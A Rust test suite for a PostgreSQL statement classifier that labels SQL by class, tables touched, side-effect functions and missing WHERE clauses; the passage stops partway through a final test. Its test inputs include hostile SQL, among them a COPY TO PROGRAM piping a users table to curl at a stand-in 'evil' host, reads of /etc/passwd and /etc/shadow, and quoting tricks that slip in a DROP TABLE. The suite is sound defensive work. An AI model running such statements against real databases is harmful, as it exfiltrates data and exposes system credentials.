use super::*;
use std::sync::Arc;

/// `(sql, commands, classes, reads, writes, functions, no_where)`.
///
/// Commands are the statements' commands joined with "; "; classes, reads,
/// writes and functions are space-separated and compared with the union over
/// all statements of the string.
type Case = (
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    bool,
);

#[rustfmt::skip]
const CASES: &[Case] = &[
    // ---- reads
    ("select 1", "SELECT", "read", "", "", "", false),
    ("SELECT * FROM users", "SELECT", "read", "users", "", "", false),
    ("select * from public.users u join orders o on o.uid = u.id", "SELECT", "read", "orders public.users", "", "", false),
    ("values (1), (2)", "SELECT", "read", "", "", "", false),
    ("table users", "SELECT", "read", "users", "", "", false),
    ("select count(*) from users where id in (select uid from orders)", "SELECT", "read", "orders users", "", "count", false),
    ("select * from users where exists (select 1 from audit.log l where l.uid = users.id)", "SELECT", "read", "audit.log users", "", "", false),
    ("select a from t1 union select b from t2 except select c from t3", "SELECT", "read", "t1 t2 t3", "", "", false),
    ("select * from users, lateral (select * from orders where orders.uid = users.id) o", "SELECT", "read", "orders users", "", "", false),
    ("select * from generate_series(1, 10)", "SELECT", "read", "", "", "generate_series", false),
    ("select lower(email) from users", "SELECT", "read", "users", "", "lower", false),
    ("select case when x > 0 then (select max(y) from t2) end from t1", "SELECT", "read", "t1 t2", "", "max", false),
    ("select * from t1 where x = any(array(select y from t2))", "SELECT", "read", "t1 t2", "", "", false),
    ("select json_agg(u) from (select * from users) u", "SELECT", "read", "users", "", "json_agg", false),
    ("select * from only parent", "SELECT", "read", "parent", "", "", false),
    // Identifiers: unquoted fold to lowercase, quoted keep their case.
    ("select * from \"Users\"", "SELECT", "read", "Users", "", "", false),
    ("select * from USERS", "SELECT", "read", "users", "", "", false),
    ("select * from \"MySchema\".\"Users\"", "SELECT", "read", "MySchema.Users", "", "", false),
    ("select * from mydb.public.users", "SELECT", "read", "public.users", "", "", false),
    ("show search_path", "SHOW", "read utility", "", "", "", false),
    // CTE names are not tables, but only where they are in scope.
    ("with recent as (select * from orders) select * from recent", "SELECT", "read", "orders", "", "", false),
    ("with users as (select * from users) select * from users", "SELECT", "read", "users", "", "", false),
    ("select * from (with users as (select 1 as id) select * from users) x, users", "SELECT", "read", "users", "", "", false),
    ("with a as (select * from b), b as (select * from a) select * from b", "SELECT", "read", "b", "", "", false),
    ("with recursive t(n) as (select 1 union all select n + 1 from t where n < 10) select * from t", "SELECT", "read", "", "", "", false),
    // Row locks.
    ("select * from t for update", "SELECT FOR UPDATE", "read write", "t", "", "", false),
    ("select * from t for share", "SELECT FOR SHARE", "read write", "t", "", "", false),
    ("select * from a join b on true for update of a nowait", "SELECT FOR UPDATE", "read write", "a b", "", "", false),
    ("select * from t for key share skip locked", "SELECT FOR KEY SHARE", "read write", "t", "", "", false),

    // ---- comments, casing, quoting, statement boundaries
    ("/* delete from t */ select 1", "SELECT", "read", "", "", "", false),
    ("select 1 -- ; drop table t", "SELECT", "read", "", "", "", false),
    ("select /* ; drop table t; */ 1 from t", "SELECT", "read", "t", "", "", false),
    ("select 'a; drop table t'", "SELECT", "read", "", "", "", false),
    // Standard strings: the backslash is literal, '' is a quote: one statement.
    ("select '\\'' ; drop table t; --'", "SELECT", "read", "", "", "", false),
    // E'' strings: \' is a quote, so the string ends and a DROP follows.
    ("select E'\\'' ; drop table t; --'", "SELECT; DROP TABLE", "read ddl", "", "t", "", false),
    ("select E'\\' ; drop table t; --'", "SELECT", "read", "", "", "", false),
    ("select $$ ; drop table t; $$", "SELECT", "read", "", "", "", false),
    ("select $tag$ it's $$ ; drop table t; $tag$ from t2", "SELECT", "read", "t2", "", "", false),
    ("DeLeTe FrOm UsErS wHeRe id = 1", "DELETE", "write", "", "users", "", false),
    ("select 1; drop table t", "SELECT; DROP TABLE", "read ddl", "", "t", "", false),
    ("select 1;\n-- comment\nupdate t set a = 1;", "SELECT; UPDATE", "read write", "", "t", "", true),

    // ---- data changes
    ("insert into users (name) values ('a')", "INSERT", "write", "", "users", "", false),
    ("insert into archive select * from users where created < now()", "INSERT", "read write", "users", "archive", "now", false),
    ("insert into t values (1) on conflict (id) do update set v = excluded.v", "INSERT", "write", "", "t", "", false),
    ("insert into t values ((select max(id) from t2)) returning *", "INSERT", "read write", "t2", "t", "max", false),
    ("update users set name = 'x' where id = 1", "UPDATE", "write", "", "users", "", false),
    ("update users set name = 'x'", "UPDATE", "write", "", "users", "", true),
    ("update users set score = (select max(score) from scores) where id = 1", "UPDATE", "read write", "scores", "users", "max", false),
    ("update users u set name = o.name from orders o where o.uid = u.id", "UPDATE", "read write", "orders", "users", "", false),
    ("delete from users", "DELETE", "write", "", "users", "", true),
    ("delete from users where id = 1", "DELETE", "write", "", "users", "", false),
    ("delete from users using orders where orders.uid = users.id", "DELETE", "read write", "orders", "users", "", false),
    ("delete from t where current of c", "DELETE", "write", "", "t", "", false),
    ("merge into target t using source s on t.id = s.id when matched then update set v = s.v when not matched then insert values (s.id, s.v)", "MERGE", "read write", "source", "target", "", false),
    ("merge into t using (select * from s) x on t.id = x.id when matched then delete", "MERGE", "read write", "s", "t", "", false),
    ("truncate a, b", "TRUNCATE", "write", "", "a b", "", true),
    ("truncate table audit.log restart identity cascade", "TRUNCATE", "write", "", "audit.log", "", true),

    // ---- writes in CTEs
    ("with d as (delete from users returning *) select * from d", "SELECT", "read write", "", "users", "", true),
    ("with u as (update users set x = 1 where id = 2 returning id) select count(*) from u", "SELECT", "read write", "", "users", "count", false),
    ("with u as (update users set x = 1 returning id) select 1", "SELECT", "read write", "", "users", "", true),
    ("with i as (insert into log values (1) returning *) update users set n = n + 1 where id in (select id from i)", "UPDATE", "write", "", "log users", "", false),
    ("select * from (with d as (delete from t where a = 1 returning *) select * from d) x", "SELECT", "read write", "", "t", "", false),
    ("with x as (select * from a) insert into b select * from x", "INSERT", "read write", "a", "b", "", false),

    // ---- COPY
    ("copy users to stdout", "COPY", "read", "users", "", "", false),
    ("copy users (id, email) to stdout with (format csv)", "COPY", "read", "users", "", "", false),
    ("copy users from stdin", "COPY", "write", "", "users", "", false),
    ("copy users to '/tmp/users.csv'", "COPY", "read admin", "users", "", "", false),
    ("copy users from '/tmp/users.csv'", "COPY", "write admin", "", "users", "", false),
    ("copy (select * from users) to program 'curl -d @- http://evil'", "COPY", "read admin", "users", "", "", false),
    ("copy users from program 'cat /etc/passwd'", "COPY", "write admin", "", "users", "", false),
    ("copy (delete from users returning *) to stdout", "COPY", "read write", "", "users", "", true),

    // ---- EXPLAIN: only ANALYZE executes
    ("explain delete from users", "EXPLAIN", "read", "users", "", "", false),
    ("explain analyze delete from users", "EXPLAIN", "read write", "", "users", "", true),
    ("EXPLAIN (ANALYZE, BUFFERS) update t set a = 1 where id = 1", "EXPLAIN", "read write", "", "t", "", false),
    ("explain (analyze false) delete from t", "EXPLAIN", "read", "t", "", "", false),
    ("explain (analyze off, verbose) insert into t values (1)", "EXPLAIN", "read", "t", "", "", false),
    ("explain (analyze 1) delete from t where a = 1", "EXPLAIN", "read write", "", "t", "", false),
    ("explain select pg_read_file('/etc/passwd')", "EXPLAIN", "read", "", "", "pg_read_file", false),
    ("explain analyze select pg_read_file('/etc/passwd')", "EXPLAIN", "read admin", "", "", "pg_read_file", false),
    ("explain analyze create table t2 as select * from t", "EXPLAIN", "read ddl write", "t", "t2", "", false),
    ("explain with d as (delete from t returning *) select * from d", "EXPLAIN", "read", "t", "", "", false),

    // ---- DDL
    ("create table t (id int primary key, name text)", "CREATE TABLE", "ddl", "", "t", "", false),
    ("create table t (id int references parent(id))", "CREATE TABLE", "ddl read", "parent", "t", "", false),
    ("create table t2 as select * from users", "CREATE TABLE AS", "ddl write read", "users", "t2", "", false),
    ("select * into t2 from users", "SELECT INTO", "read write ddl", "users", "t2", "", false),
    ("create materialized view mv as select * from users", "CREATE MATERIALIZED VIEW", "ddl write read", "users", "mv", "", false),
    ("refresh materialized view concurrently mv", "REFRESH MATERIALIZED VIEW", "ddl write", "", "mv", "", false),
    ("create view v as select id from users", "CREATE VIEW", "ddl read", "users", "v", "", false),
    ("create index concurrently on users (email)", "CREATE INDEX", "ddl", "", "users", "", false),
    ("alter table users add column age int", "ALTER TABLE", "ddl", "", "users", "", false),
    ("alter table users owner to mallory", "ALTER TABLE", "ddl dcl", "", "users", "", false),
    ("alter table users disable row level security", "ALTER TABLE", "ddl dcl", "", "users", "", false),
    ("alter table users rename to people", "ALTER TABLE", "ddl", "", "users", "", false),
    ("drop table users, audit.log cascade", "DROP TABLE", "ddl", "", "audit.log users", "", false),
    ("drop view if exists v", "DROP VIEW", "ddl", "", "v", "", false),
    ("drop schema audit cascade", "DROP SCHEMA", "ddl", "", "", "", false),
    ("drop function f(int)", "DROP FUNCTION", "ddl", "", "", "", false),
    ("comment on table users is 'people'", "COMMENT", "ddl", "", "users", "", false),
    ("create function f() returns int language sql as $$ delete from t; select 1 $$", "CREATE FUNCTION", "ddl", "", "", "", false),
    ("create procedure p() language sql begin atomic delete from t; end", "CREATE PROCEDURE", "ddl write", "", "t", "", true),
    ("create extension dblink", "CREATE EXTENSION", "ddl admin", "", "", "", false),
    ("create schema s create table s.t (a int)", "CREATE SCHEMA", "ddl", "", "s.t", "", false),
    ("create sequence s", "CREATE SEQUENCE", "ddl", "", "s", "", false),
    ("create trigger trg after insert on t for each row execute function f()", "CREATE TRIGGER", "ddl", "", "t", "f", false),
    ("create rule r as on insert to t do instead delete from audit.log", "CREATE RULE", "ddl write", "", "audit.log t", "", true),
    ("create table t (id int default nextval('s'))", "CREATE TABLE", "ddl write", "", "t", "nextval", false),
    ("alter system set log_statement = 'none'", "ALTER SYSTEM", "ddl admin", "", "", "", false),
    ("create database d", "CREATE DATABASE", "ddl admin", "", "", "", false),
    ("alter database d set search_path = x", "ALTER DATABASE", "ddl admin utility", "", "", "", false),
    ("create server s foreign data wrapper postgres_fdw options (host 'evil')", "CREATE SERVER", "ddl admin", "", "", "", false),
    ("create policy p on t using (true)", "CREATE POLICY", "ddl dcl", "", "t", "", false),
    ("create type mood as enum ('sad', 'ok')", "CREATE TYPE", "ddl", "", "", "", false),

    // ---- maintenance
    ("vacuum full users", "VACUUM", "admin", "", "users", "", false),
    ("analyze users", "ANALYZE", "admin", "", "users", "", false),
    ("reindex table users", "REINDEX", "ddl admin", "", "users", "", false),
    ("cluster users using users_pkey", "CLUSTER", "ddl admin", "", "users", "", false),
    ("checkpoint", "CHECKPOINT", "admin", "", "", "", false),

    // ---- privileges and roles
    ("grant select on users to agent", "GRANT", "dcl", "", "users", "", false),
    ("revoke all on all tables in schema public from agent", "REVOKE", "dcl", "", "", "", false),
    ("grant pg_read_server_files to agent", "GRANT", "dcl", "", "", "", false),
    ("create role r login password 'x'", "CREATE ROLE", "dcl", "", "", "", false),
    ("create user u", "CREATE USER", "dcl", "", "", "", false),
    ("alter role agent superuser", "ALTER ROLE", "dcl", "", "", "", false),
    ("alter user agent set search_path = x", "ALTER ROLE", "dcl utility", "", "", "", false),
    ("drop role r", "DROP ROLE", "dcl", "", "", "", false),
    ("alter default privileges in schema s grant select on tables to r", "ALTER DEFAULT PRIVILEGES", "dcl", "", "", "", false),
    ("reassign owned by a to b", "REASSIGN OWNED", "dcl", "", "", "", false),
    ("security label on table t is 'x'", "SECURITY LABEL", "dcl", "", "t", "", false),
    ("set role admin", "SET", "utility dcl", "", "", "", false),
    ("SET SESSION AUTHORIZATION 'postgres'", "SET", "utility dcl", "", "", "", false),
    ("set local \"ROLE\" = admin", "SET", "utility dcl", "", "", "", false),
    ("reset role", "RESET", "utility dcl", "", "", "", false),

    // ---- transactions
    ("begin", "BEGIN", "tx", "", "", "", false),
    ("start transaction read only", "START TRANSACTION", "tx", "", "", "", false),
    ("commit", "COMMIT", "tx", "", "", "", false),
    ("rollback", "ROLLBACK", "tx", "", "", "", false),
    ("savepoint s", "SAVEPOINT", "tx", "", "", "", false),
    ("release savepoint s", "RELEASE", "tx", "", "", "", false),
    ("rollback to savepoint s", "ROLLBACK TO SAVEPOINT", "tx", "", "", "", false),
    ("prepare transaction 'x'", "PREPARE TRANSACTION", "tx", "", "", "", false),
    ("commit prepared 'x'", "COMMIT PREPARED", "tx", "", "", "", false),
    ("set transaction read write", "SET", "utility tx", "", "", "", false),
    ("set default_transaction_read_only = off", "SET", "utility tx", "", "", "", false),
    ("begin; delete from t; commit", "BEGIN; DELETE; COMMIT", "tx write", "", "t", "", true),

    // ---- session utilities
    ("set search_path = audit, public", "SET", "utility", "", "", "", false),
    ("set statement_timeout = '5s'", "SET", "utility", "", "", "", false),
    ("set session_replication_role = replica", "SET", "utility admin", "", "", "", false),
    // Settings that would make the server split later statements differently
    // from this parser (verified against PostgreSQL 15: with SJIS or
    // standard_conforming_strings off, one statement here runs as two there).
    ("set client_encoding = 'SJIS'", "SET", "utility admin", "", "", "", false),
    ("set names 'BIG5'", "SET", "utility admin", "", "", "", false),
    ("set names 'UTF8'", "SET", "utility", "", "", "", false),
    ("set client_encoding to 'utf-8'", "SET", "utility", "", "", "", false),
    ("set client_encoding to default", "SET", "utility", "", "", "", false),
    ("reset client_encoding", "RESET", "utility", "", "", "", false),
    ("set standard_conforming_strings = off", "SET", "utility admin", "", "", "", false),
    ("set standard_conforming_strings = 0", "SET", "utility admin", "", "", "", false),
    ("set standard_conforming_strings to on", "SET", "utility", "", "", "", false),
    ("alter role agent set standard_conforming_strings = off", "ALTER ROLE", "dcl utility admin", "", "", "", false),
    ("select set_config('client_encoding', 'SJIS', false)", "SELECT", "read utility dcl admin", "", "", "set_config", false),
    ("reset all", "RESET", "utility dcl", "", "", "", false),
    ("discard all", "DISCARD", "utility dcl", "", "", "", false),
    ("discard plans", "DISCARD", "utility", "", "", "", false),
    ("listen ch", "LISTEN", "utility", "", "", "", false),
    ("notify ch, 'x'", "NOTIFY", "utility", "", "", "", false),
    ("unlisten *", "UNLISTEN", "utility", "", "", "", false),
    ("declare c cursor for select * from users", "DECLARE CURSOR", "read utility", "users", "", "", false),
    ("declare c cursor for select * from users for update", "DECLARE CURSOR", "read write utility", "users", "", "", false),
    ("fetch 10 from c", "FETCH", "utility", "", "", "", false),
    ("move next in c", "MOVE", "utility", "", "", "", false),
    ("close c", "CLOSE CURSOR", "utility", "", "", "", false),
    ("lock table users in access exclusive mode", "LOCK TABLE", "utility write", "", "users", "", false),
    ("load 'auto_explain'", "LOAD", "utility admin", "", "", "", false),

    // ---- DO, CALL, prepared statements
    ("do $$ begin delete from users; end $$", "DO", "read write ddl dcl tx utility admin", "", "", "", false),
    ("call archive_users(30)", "CALL", "write", "", "", "archive_users", false),
    ("call s.p(nextval('q'))", "CALL", "write", "", "", "nextval s.p", false),
    ("prepare p as delete from users where id = $1", "PREPARE", "write", "", "users", "", false),
    ("prepare q (int) as select * from users where id = $1", "PREPARE", "read", "users", "", "", false),
    ("prepare r as with d as (delete from t returning *) select * from d", "PREPARE", "read write", "", "t", "", true),
    ("execute p(1)", "EXECUTE", "", "", "", "", false),
    ("execute p(pg_read_file('/etc/passwd'))", "EXECUTE", "read admin", "", "", "pg_read_file", false),
    ("deallocate p", "DEALLOCATE", "utility", "", "", "", false),
    ("explain execute p(1)", "EXPLAIN", "read", "", "", "", false),
    ("create table t2 as execute p(1)", "CREATE TABLE AS", "ddl write", "", "t2", "", false),

    // ---- side-effect functions, wherever they are nested
    ("select dblink_exec('host=x', 'drop table t')", "SELECT", "read write admin", "", "", "dblink_exec", false),
    ("select * from dblink('host=x', 'select 1') as t(a int)", "SELECT", "read write admin", "", "", "dblink", false),
    ("select public.dblink_exec('x', 'y')", "SELECT", "read write admin", "", "", "public.dblink_exec", false),
    ("select lower(pg_read_file('/etc/passwd'))", "SELECT", "read admin", "", "", "lower pg_read_file", false),
    ("select * from users where name = (select pg_catalog.pg_read_file('x'))", "SELECT", "read admin", "users", "", "pg_catalog.pg_read_file", false),
    ("select lo_import('/etc/passwd')", "SELECT", "read write admin", "", "", "lo_import", false),
    ("select lo_export(1234, '/tmp/x')", "SELECT", "read write admin", "", "", "lo_export", false),
    ("select lo_unlink(1234)", "SELECT", "read write", "", "", "lo_unlink", false),
    ("select set_config('role', 'admin', false)", "SELECT", "read utility dcl admin", "", "", "set_config", false),
    ("select pg_catalog.set_config('search_path', '', false)", "SELECT", "read utility dcl admin", "", "", "pg_catalog.set_config", false),
    ("select nextval('seq')", "SELECT", "read write", "", "", "nextval", false),
    ("select setval('seq', 1)", "SELECT", "read write", "", "", "setval", false),
    ("select pg_terminate_backend(pid) from pg_stat_activity", "SELECT", "read admin", "pg_stat_activity", "", "pg_terminate_backend", false),
    ("select pg_reload_conf()", "SELECT", "read admin", "", "", "pg_reload_conf", false),
    ("select pg_ls_dir('.')", "SELECT", "read admin", "", "", "pg_ls_dir", false),
    ("select pg_sleep(1)", "SELECT", "read", "", "", "pg_sleep", false),
    ("select PG_READ_FILE('x')", "SELECT", "read admin", "", "", "pg_read_file", false),
    ("select \"PG_READ_FILE\"('x')", "SELECT", "read admin", "", "", "PG_READ_FILE", false),
    ("select query_to_xml('select * from secrets', true, true, '')", "SELECT", "read admin", "", "", "query_to_xml", false),
    ("select count(*) filter (where nextval('s') > 0) from t", "SELECT", "read write", "t", "", "count nextval", false),
    ("select sum(x) over (order by nextval('s')) from t", "SELECT", "read write", "t", "", "nextval sum", false),
    ("select coalesce(null, pg_read_file('x'))", "SELECT", "read admin", "", "", "pg_read_file", false),
    ("insert into t select lo_unlink(oid) from pg_largeobject_metadata", "INSERT", "read write", "pg_largeobject_metadata", "t", "lo_unlink", false),
    ("select * from t where id = any(array(select setval('s', 1)))", "SELECT", "read write", "t", "", "setval", false),
    ("select (select dblink_exec('x', 'y'))", "SELECT", "read write admin", "", "", "dblink_exec", false),
    ("select json_build_object('a', pg_ls_dir('.'))", "SELECT", "read admin", "", "", "json_build_object pg_ls_dir", false),
    ("select * from t order by pg_read_file('x')", "SELECT", "read admin", "t", "", "pg_read_file", false),
    ("select 1 from t group by 1 having max(pg_read_file('x')) > ''", "SELECT", "read admin", "t", "", "max pg_read_file", false),
    ("select * from t limit (select setval('s', 5))", "SELECT", "read write", "t", "", "setval", false),
    ("select * from t1 join t2 on t1.id = nextval('s')", "SELECT", "read write", "t1 t2", "", "nextval", false),
    ("select x from t where x in (values (pg_read_file('a')))", "SELECT", "read admin", "t", "", "pg_read_file", false),
    ("select * from xmltable('/a' passing (select pg_read_file('x')::xml) columns a text)", "SELECT", "read admin", "", "", "pg_read_file", false),
    ("update t set a = pg_read_file('x') where id = 1", "UPDATE", "read write admin", "", "t", "pg_read_file", false),
    ("select 1 from t where exists (select lo_import('/etc/shadow'))", "SELECT", "read write admin", "t", "", "lo_import", false),
];

fn set(s: &str) -> BTreeSet<String> {
    s.split_whitespace().map(str::to_owned).collect()
}

fn classes(s: &str) -> BTreeSet<SqlClass> {
    s.split_whitespace()
        .map(|c| SqlClass::parse(c).unwrap_or_else(|| panic!("bad class {c}")))
        .collect()
}

#[test]
fn classification_table() {
    assert!(CASES.len() >= 100, "{} cases", CASES.len());
    let mut failures = Vec::new();
    for &(sql, command, want_classes, reads, writes, functions, no_where) in CASES {
        let got = match classify(sql) {
            Ok(c) => c,
            Err(e) => {
                failures.push(format!("{sql:?}: error {e}"));
                continue;
            }
        };
        let s = &got.statements;
        let got_command = s
            .iter()
            .map(|s| s.command.as_str())
            .collect::<Vec<_>>()
            .join("; ");
        let union = |f: fn(&StatementInfo) -> &BTreeSet<String>| -> BTreeSet<String> {
            s.iter().flat_map(|s| f(s).iter().cloned()).collect()
        };
        let got_reads = union(|s| &s.reads);
        let got_writes = union(|s| &s.writes);
        let got_functions = union(|s| &s.functions);
        let got_no_where = s.iter().any(|s| s.no_where);
        let mut problems = Vec::new();
        if got_command != command {
            problems.push(format!("command {got_command:?} != {command:?}"));
        }
        if got.classes() != classes(want_classes) {
            problems.push(format!(
                "classes {:?} != {:?}",
                got.classes(),
                classes(want_classes)
            ));
        }
        if got_reads != set(reads) {
            problems.push(format!("reads {got_reads:?} != {:?}", set(reads)));
        }
        if got_writes != set(writes) {
            problems.push(format!("writes {got_writes:?} != {:?}", set(writes)));
        }
        if got_functions != set(functions) {
            problems.push(format!(
                "functions {got_functions:?} != {:?}",
                set(functions)
            ));
        }
        if got_no_where != no_where {
            problems.push(format!("no_where {got_no_where} != {no_where}"));
        }
        if !problems.is_empty() {
            failures.push(format!("{sql:?}:\n    {}", problems.join("\n    ")));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        CASES.len(),
        failures.join("\n")
    );
}

#[test]
fn unparseable_input_is_an_error() {
    for sql in [
        "selec 1",
        "select 'abc",
        "select \"abc",
        "select $$abc",
        "select * from",
        "delete users",
        "select 1; selec 2",
        "select /* unterminated",
        "select 1\0; drop table t",
    ] {
        match classify(sql) {
            Err(ClassifyError::Parse(_)) => {}
            other => panic!("{sql:?}: expected a parse error, got {other:?}"),
        }
    }
}

#[test]
fn empty_input_has_no_statements() {
    for sql in [
        "",
        "   \n\t",
        "-- only a comment",
        "/* only */ /* comments */",
        ";",
        " ; ;; ",
    ] {
        let c = classify(sql).unwrap_or_else(|e| panic!("{sql:?}: {e}"));
        assert!(c.statements.is_empty(), "{sql:?}: {c:?}");
    }
}

#[test]
fn multi_statement_strings_are_split_per_statement() {
    let c = classify("select * from a; /* ; */ delete from b; select $$;$$").unwrap();
    let commands: Vec<&str> = c.statements.iter().map(|s| s.command.as_str()).collect();
    assert_eq!(commands, ["SELECT", "DELETE", "SELECT"]);
    assert_eq!(c.statements[0].classes, classes("read"));
    assert_eq!(c.statements[1].classes, classes("write"));
    assert!(c.statements[1].no_where);
    assert!(!c.statements[0].no_where && !c.statements[2].no_where);
    assert_eq!(c.statements[1].writes, set("b"));
}

#[test]
fn prepare_records_name_and_inner_text() {
    let cases = [
        (
            "prepare p (int) as delete from users where id = $1",
            "p",
            "delete from users where id = $1",
        ),
        (
            "/* as */ PREPARE \"As\" AS select 'as' as as_",
            "As",
            "select 'as' as as_",
        ),
        (
            "prepare p(text, numeric(10,2)) as\n  select $1, $2",
            "p",
            "select $1, $2",
        ),
        (
            "select 1; prepare q as insert into t values (1); execute q",
            "q",
            "insert into t values (1)",
        ),
        // Offsets are bytes: multibyte text before and inside the statement.
        (
            "select 'é€😀'; prepare ü as select 'ü' as \"ö\"",
            "ü",
            "select 'ü' as \"ö\"",
        ),
    ];
    for (sql, name, body) in cases {
        let c = classify(sql).unwrap();
        let prepared: Vec<_> = c
            .statements
            .iter()
            .filter_map(|s| s.prepares.clone())
            .collect();
        assert_eq!(prepared, [(name.to_owned(), body.to_owned())], "{sql:?}");
        // The recorded text classifies like the PREPARE it came from.
        let inner = classify(body).unwrap();
        let prepare = c.statements.iter().find(|s| s.prepares.is_some()).unwrap();
        assert_eq!(inner.classes(), prepare.classes, "{sql:?}");
    }
}

#[test]
fn execute_and_deallocate() {
    let c = classify("execute p(1); deallocate p; deallocate all; deallocate prepare q").unwrap();
    let s = &c.statements;
    assert_eq!(s[0].executes.as_deref(), Some("p"));
    assert!(s[0].classes.is_empty());
    assert_eq!(s[1].deallocates, Some(Some("p".to_owned())));
    assert_eq!(s[2].deallocates, Some(None));
    assert_eq!(s[3].deallocates, Some(Some("q".to_owned())));
    assert_eq!(s[1].executes, None);
    // EXECUTE inside EXPLAIN ANALYZE or CREATE TABLE AS still names it.
    for sql in [
        "explain analyze execute p",
        "create table t as execute p(2)",
    ] {
        let c = classify(sql).unwrap();
        assert_eq!(c.statements[0].executes.as_deref(), Some("p"), "{sql}");
    }
}

#[test]
fn class_names_round_trip() {
    for c in SqlClass::ALL {
        assert_eq!(SqlClass::parse(c.name()), Some(c));
        assert_eq!(SqlClass::parse(&c.name().to_uppercase()), Some(c));
    }
    assert_eq!(SqlClass::parse("transaction"), Some(SqlClass::Tx));
    assert_eq!(SqlClass::parse("nope"), None);
}

#[test]
fn deeply_nested_input_fails_closed() {
    let too_deep =
        ClassifyError::Unsupported("the statement is nested too deeply to classify".into());
    // Within the limits: long operator chains, nested subqueries, flat lists.
    let ok = [
        format!("select {}1", "a || ".repeat(40)),
        format!("select {}1{}", "(select ".repeat(10), ")".repeat(10)),
        format!(
            "select * from t where {}",
            (0..2000)
                .map(|i| format!("a = {i}"))
                .collect::<Vec<_>>()
                .join(" or ")
        ),
        format!(
            "select 1 from t where a in ({})",
            (0..5000)
                .map(|i| i.to_string())
                .collect::<Vec<_>>()
                .join(",")
        ),
    ];
    for sql in &ok {
        assert!(classify(sql).is_ok(), "{}", &sql[..60]);
    }
    // Beyond them: an error, never a crash or a silent pass.
    let deep = [
        format!("select {}1", "a || ".repeat(60)),
        format!("select {}1", "1 + ".repeat(20_000)),
        format!("select {}1{}", "(select ".repeat(30), ")".repeat(30)),
        format!("select {}1{}", "(select ".repeat(500), ")".repeat(500)),
    ];
    for sql in &deep {
        assert_eq!(classify(sql), Err(too_deep.clone()), "{}", &sql[..60]);
    }
    // Deeper than the grammar's own stack: the server refuses it too.
    let grammar = format!("select {}1{}", "array[".repeat(5_000), "]".repeat(5_000));
    assert!(matches!(classify(&grammar), Err(ClassifyError::Parse(_))));
}

#[test]
fn side_effect_table_is_lowercase_and_unique() {
    let mut seen = BTreeSet::new();
    for (name, classes) in SIDE_EFFECT_FUNCTIONS {
        assert_eq!(*name, name.to_lowercase());
        assert!(seen.insert(*name), "{name} twice");
        assert!(!classes.is_empty(), "{name} adds nothing");
    }
}

#[test]
fn cache_returns_the_same_classification_and_caches_errors() {
    let cache = ClassifierCache::new(8);
    let a = cache.classify("select * from t").unwrap();
    let b = cache.classify("select * from t").unwrap();
    assert!(Arc::ptr_eq(&a, &b));
    assert_eq!(cache.len(), 1);
    let e1 = cache.classify("selec 1").unwrap_err();
    let e2 = cache.classify("selec 1").unwrap_err();
    assert_eq!(e1, e2);
    assert_eq!(cache.len(), 2);
}

#[test]
fn cache_is_bounded_and_keeps_hot_entries() {
    let cache = ClassifierCache::new(10);
    let hot = cache.classify("select 1").unwrap();
    for i in 0..100 {
        cache.classify(&format!("select * from t{i}")).unwrap();
        // Touch the hot entry so it keeps moving to the recent generation.
        assert!(Arc::ptr_eq(&hot, &cache.classify("select 1").unwrap()));
        assert!(cache.len() <= 10, "{}", cache.len());
    }
}

#[test]
fn cache_is_shared_across_threads() {
    let cache = Arc::new(ClassifierCache::new(64));
    let handles: Vec<_> = (0..4)
        .map(|i| {
            let cache = cache.clone();
            std::thread::spawn(move || {
                for j in 0..50 {
                    let c = cache
                        .classify(&format!("delete from t{} where id = {}", j % 5, i))
                        .unwrap();
                    assert_eq!(c.statements[0].classes, classes("write"));
                }
            })
        })
        .collect();
    for h in handles {
        h.join().unwrap();
    }
    assert!(cache.len() <= 64);
}

/// Every statement type of pg_query 18's tree.
#[rustfmt::skip]
const STATEMENT_TYPES: &[&str] = &[
    "AlterCollationStmt", "AlterDatabaseRefreshCollStmt", "AlterDatabaseSetStmt",
    "AlterDatabaseStmt", "AlterDefaultPrivilegesStmt", "AlterDomainStmt", "AlterEnumStmt",
    "AlterEventTrigStmt", "AlterExtensionContentsStmt", "AlterExtensionStmt", "AlterFdwStmt",
    "AlterForeignServerStmt", "AlterFunctionStmt", "AlterObjectDependsStmt",
    "AlterObjectSchemaStmt", "AlterOpFamilyStmt", "AlterOperatorStmt", "AlterOwnerStmt",
    "AlterPolicyStmt", "AlterPublicationStmt", "AlterRoleSetStmt", "AlterRoleStmt",
    "AlterSeqStmt", "AlterStatsStmt", "AlterSubscriptionStmt", "AlterSystemStmt",
    "AlterTableMoveAllStmt", "AlterTableSpaceOptionsStmt", "AlterTableStmt",
    "AlterTsconfigurationStmt", "AlterTsdictionaryStmt", "AlterTypeStmt",
    "AlterUserMappingStmt", "CallStmt", "CheckPointStmt", "ClosePortalStmt", "ClusterStmt",
    "CommentStmt", "CompositeTypeStmt", "ConstraintsSetStmt", "CopyStmt", "CreateAmStmt",
    "CreateCastStmt", "CreateConversionStmt", "CreateDomainStmt", "CreateEnumStmt",
    "CreateEventTrigStmt", "CreateExtensionStmt", "CreateFdwStmt", "CreateForeignServerStmt",
    "CreateForeignTableStmt", "CreateFunctionStmt", "CreateOpClassStmt", "CreateOpFamilyStmt",
    "CreatePlangStmt", "CreatePolicyStmt", "CreatePublicationStmt", "CreateRangeStmt",
    "CreateRoleStmt", "CreateSchemaStmt", "CreateSeqStmt", "CreateStatsStmt", "CreateStmt",
    "CreateSubscriptionStmt", "CreateTableAsStmt", "CreateTableSpaceStmt",
    "CreateTransformStmt", "CreateTrigStmt", "CreateUserMappingStmt", "CreatedbStmt",
    "DeallocateStmt", "DeclareCursorStmt", "DefineStmt", "DeleteStmt", "DiscardStmt", "DoStmt",
    "DropOwnedStmt", "DropRoleStmt", "DropStmt", "DropSubscriptionStmt", "DropTableSpaceStmt",
    "DropUserMappingStmt", "DropdbStmt", "ExecuteStmt", "ExplainStmt", "FetchStmt",
    "GrantRoleStmt", "GrantStmt", "ImportForeignSchemaStmt", "IndexStmt", "InsertStmt",
    "ListenStmt", "LoadStmt", "LockStmt", "MergeStmt", "NotifyStmt", "PlassignStmt",
    "PrepareStmt", "RawStmt", "ReassignOwnedStmt", "RefreshMatViewStmt", "ReindexStmt",
    "RenameStmt", "ReplicaIdentityStmt", "ReturnStmt", "RuleStmt", "SecLabelStmt", "SelectStmt",
    "SetOperationStmt", "TransactionStmt", "TruncateStmt", "UnlistenStmt", "UpdateStmt",
    "VacuumStmt", "VariableSetStmt", "VariableShowStmt", "ViewStmt",
];

#[test]
fn every_statement_type_has_a_rule_and_unknown_ones_get_every_class() {
    for tag in STATEMENT_TYPES {
        let (command, _) = walk::bare_statement(tag);
